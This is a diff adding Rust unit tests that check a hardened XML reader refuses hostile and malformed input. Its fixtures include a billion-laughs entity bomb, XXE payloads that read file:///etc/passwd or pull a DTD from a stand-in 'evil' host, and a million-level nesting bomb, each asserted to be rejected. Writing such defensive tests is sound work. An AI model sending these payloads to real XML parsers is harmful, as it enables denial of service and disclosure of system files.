@@ -1080,6 +1080,166 @@ mod tests {
         ));
     }
 
+    /// Reads a whole document through the hardened reader; the number of tokens.
+    fn harden(input: &[u8], doctype: DocTypePolicy) -> Result<usize, XmlError> {
+        let mut reader = Hardened::new(input, doctype)?;
+        let mut tokens = 0;
+        while !matches!(reader.next()?, Token::Eof) {
+            tokens += 1;
+        }
+        Ok(tokens)
+    }
+
+    fn refusal(input: &str, doctype: DocTypePolicy) -> XmlError {
+        harden(input.as_bytes(), doctype).expect_err(input)
+    }
+
+    const BILLION_LAUGHS: &str = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n \
+        <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n \
+        <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n]>\n<lolz>&lol3;</lolz>";
+
+    #[test]
+    fn hardened_billion_laughs_is_refused_under_either_doctype_policy() {
+        let e = refusal(BILLION_LAUGHS, DocTypePolicy::Refuse);
+        assert!(matches!(e.kind, XmlErrorKind::DocType), "{e}");
+        assert_eq!(e.offset, 22, "the DOCTYPE starts after the declaration and its newline");
+        let e = refusal(BILLION_LAUGHS, DocTypePolicy::AllowWithoutEntities);
+        assert!(matches!(e.kind, XmlErrorKind::EntityDeclaration), "{e}");
+        // Without its DOCTYPE the bomb is only an undeclared entity.
+        let e = refusal("<lolz>&lol3;</lolz>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::UndeclaredEntity(n) if n == "lol3"), "{e}");
+        assert_eq!(e.offset, 6);
+    }
+
+    #[test]
+    fn hardened_external_entities_are_refused() {
+        for xxe in [
+            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
+            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil/x\"> %p;]><a/>",
+            "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\" [ %p; ]><a/>",
+        ] {
+            assert!(matches!(refusal(xxe, DocTypePolicy::Refuse).kind, XmlErrorKind::DocType), "{xxe}");
+            let e = refusal(xxe, DocTypePolicy::AllowWithoutEntities);
+            assert!(matches!(e.kind, XmlErrorKind::EntityDeclaration), "{xxe}: {e}");
+        }
+    }
+
+    #[test]
+    fn hardened_undeclared_entities_and_bad_character_references_are_refused() {
+        let e = refusal("<a>x&nbsp;y</a>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::UndeclaredEntity(n) if n == "nbsp"), "{e}");
+        assert_eq!(
+            e.to_string(),
+            "the entity `&nbsp;` is not declared; only `&amp;`, `&lt;`, `&gt;`, `&quot;`, `&apos;` and \
+             character references are read at byte 4"
+        );
+        let e = refusal("<a x='1&e;'/>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::UndeclaredEntity(n) if n == "e"), "in an attribute: {e}");
+        for bad in ["<a>&#0;</a>", "<a>&#1;</a>", "<a>&#xFFFE;</a>", "<a>&#X41;</a>", "<a>&#+65;</a>", "<a x='&#0;'/>"] {
+            assert!(matches!(refusal(bad, DocTypePolicy::Refuse).kind, XmlErrorKind::InvalidCharRef(_)), "{bad}");
+        }
+        assert!(matches!(refusal("<a x='a & b;'/>", DocTypePolicy::Refuse).kind, XmlErrorKind::UndeclaredEntity(_)));
+        assert!(matches!(refusal("<a x='a &amp'/>", DocTypePolicy::Refuse).kind, XmlErrorKind::Syntax(_)), "unterminated");
+        let ok = "<a x='&lt;&#233;&#x1F600;'>&amp;&lt;&gt;&quot;&apos;&#9;&#xE9;</a>";
+        assert!(harden(ok.as_bytes(), DocTypePolicy::Refuse).is_ok());
+    }
+
+    #[test]
+    fn hardened_doctype_is_refused_unless_the_policy_allows_one_before_the_root() {
+        let dtd = "<!DOCTYPE a SYSTEM \"a.dtd\" [ <!ELEMENT a EMPTY> ]><a/>";
+        assert!(matches!(refusal(dtd, DocTypePolicy::Refuse).kind, XmlErrorKind::DocType));
+        assert!(harden(dtd.as_bytes(), DocTypePolicy::AllowWithoutEntities).is_ok());
+        for twice in ["<!DOCTYPE a><!DOCTYPE a><a/>", "<a/><!DOCTYPE a>"] {
+            let e = refusal(twice, DocTypePolicy::AllowWithoutEntities);
+            assert!(matches!(e.kind, XmlErrorKind::DocType), "{twice}: {e}");
+        }
+    }
+
+    #[test]
+    fn hardened_depth_bomb_is_refused_at_max_depth() {
+        let nest = |n: usize| format!("{}{}", "<a>".repeat(n), "</a>".repeat(n));
+        assert!(harden(nest(MAX_DEPTH).as_bytes(), DocTypePolicy::Refuse).is_ok());
+        let e = refusal(&nest(MAX_DEPTH + 1), DocTypePolicy::Refuse);
+        assert!(matches!(e.kind, XmlErrorKind::TooDeep(MAX_DEPTH)), "{e}");
+        assert_eq!(e.offset, 3 * MAX_DEPTH as u64);
+        let empty_too = format!("{}<b/>{}", "<a>".repeat(MAX_DEPTH), "</a>".repeat(MAX_DEPTH));
+        assert!(matches!(refusal(&empty_too, DocTypePolicy::Refuse).kind, XmlErrorKind::TooDeep(_)));
+        // A million levels are refused at the first one too many, without recursion.
+        let bomb = "<a>".repeat(1_000_000);
+        assert!(matches!(refusal(&bomb, DocTypePolicy::Refuse).kind, XmlErrorKind::TooDeep(_)));
+    }
+
+    #[test]
+    fn hardened_two_roots_are_refused() {
+        for two in ["<a/><b/>", "<a></a><a></a>", "<a/>\n<!-- x -->\n<b>t</b>"] {
+            assert!(matches!(refusal(two, DocTypePolicy::Refuse).kind, XmlErrorKind::SecondRoot), "{two}");
+        }
+        assert_eq!(refusal("<a/><b/>", DocTypePolicy::Refuse).offset, 4);
+        assert!(matches!(refusal("", DocTypePolicy::Refuse).kind, XmlErrorKind::NoRoot));
+        assert!(matches!(refusal("<?xml version='1.0'?><!-- -->", DocTypePolicy::Refuse).kind, XmlErrorKind::NoRoot));
+    }
+
+    #[test]
+    fn hardened_text_after_the_root_is_refused_but_whitespace_comments_and_pis_are_not() {
+        for (after, what) in [("x", "text"), ("&amp;", "an entity reference"), ("<![CDATA[x]]>", "CDATA")] {
+            let e = refusal(&format!("<a/>{after}"), DocTypePolicy::Refuse);
+            assert!(matches!(e.kind, XmlErrorKind::OutsideRoot(w) if w == what), "{after}: {e}");
+            assert_eq!(e.offset, 4);
+        }
+        assert!(matches!(refusal("text<a/>", DocTypePolicy::Refuse).kind, XmlErrorKind::OutsideRoot("text")));
+        // Only XML whitespace: a no-break space after the root is text.
+        assert!(matches!(refusal("<a/>\u{a0}", DocTypePolicy::Refuse).kind, XmlErrorKind::OutsideRoot("text")));
+        assert!(harden(b"<a/> \r\n\t<!-- c --><?pi x?>\n", DocTypePolicy::Refuse).is_ok());
+    }
+
+    #[test]
+    fn hardened_mismatched_and_unclosed_tags_are_refused() {
+        let e = refusal("<a>\n  <b>\n</a>", DocTypePolicy::Refuse);
+        assert!(matches!(e.kind, XmlErrorKind::Syntax(_)), "{e}");
+        assert!(e.to_string().starts_with("not well-formed at byte "), "{e}");
+        assert!(std::error::Error::source(&e).is_some(), "the quick-xml cause is kept");
+        let e = refusal("<a><b>", DocTypePolicy::Refuse);
+        assert!(matches!(&e.kind, XmlErrorKind::Unclosed(n) if n == "b"), "{e}");
+        assert_eq!(e.to_string(), "`<b>` is never closed at byte 6");
+        for bad in ["</a>", "<a x='1' x='2'/>", "<a x/>", "<1a/>", "<a 1x='1'/>", "<a><!-- x -- y --></a>", "<a>x &</a>"] {
+            assert!(harden(bad.as_bytes(), DocTypePolicy::Refuse).is_err(), "{bad}");
+        }
+    }
+
+    #[test]
+    fn hardened_bad_utf8_and_unknown_encodings_are_refused() {
+        let e = harden(b"<a>ok\xff</a>", DocTypePolicy::Refuse).expect_err("bad UTF-8");
+        assert!(matches!(e.kind, XmlErrorKind::InvalidUtf8) && e.offset == 5, "{e}");
+        let e = harden(b"\xEF\xBB\xBF<a>\xc3</a>", DocTypePolicy::Refuse).expect_err("bad UTF-8 after a BOM");
+        assert_eq!(e.offset, 6, "offsets count the byte-order mark");
+        for bad in [&b"\xff\xfe<\0a\0/\0>\0"[..], b"<?xml version='1.0' encoding='Shift_JIS'?><a/>"] {
+            let e = harden(bad, DocTypePolicy::Refuse).expect_err("encoding");
+            assert!(matches!(e.kind, XmlErrorKind::Encoding(_)), "{e}");
+        }
+        let latin1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a t='M\xfcnchen'>K\xf6ln</a>";
+        assert!(harden(latin1, DocTypePolicy::Refuse).is_ok());
+        let mut reader = Hardened::new(b"\xEF\xBB\xBF<a/>", DocTypePolicy::Refuse).expect("a BOM is fine");
+        assert!(matches!(reader.next(), Ok(Token::Empty(_))));
+        assert_eq!(reader.position(), 7, "positions count the byte-order mark");
+    }
+
+    #[test]
+    fn doc_refuses_a_doctype_and_an_entity_bomb_through_the_hardened_reader() {
+        let e = Doc::parse(BILLION_LAUGHS.as_bytes(), DocTypePolicy::Refuse).expect_err("DOCTYPE");
+        assert_eq!(e.to_string(), "upstream document has a DOCTYPE; only WMS 1.1.1 may carry one");
+        let e = Doc::parse(BILLION_LAUGHS.as_bytes(), DocTypePolicy::AllowWithoutEntities).expect_err("entities");
+        assert_eq!(e.to_string(), "upstream document declares entities in its DOCTYPE");
+        let e = Doc::parse(b"<lolz>&lol3;</lolz>", DocTypePolicy::Refuse).expect_err("undeclared");
+        assert_eq!(e.to_string(), "upstream document uses the undeclared entity `&lol3;`");
+    }
+
+    #[test]
+    fn capabilities_with_a_control_character_reference_or_a_no_break_space_after_the_root_are_refused() {
+        // Both passed before the readers were unified.
+        assert!(Doc::parse(b"<a>&#1;</a>", DocTypePolicy::Refuse).is_err());
+        assert!(Doc::parse("<a/>\u{a0}".as_bytes(), DocTypePolicy::Refuse).is_err());
+    }
+
     #[test]
     fn removing_an_element_takes_its_indentation_along() {
         let mut doc = Doc::parse(b"<a>\n  <b/>\n  <c/>\n</a>", DocTypePolicy::Refuse).expect("parses");
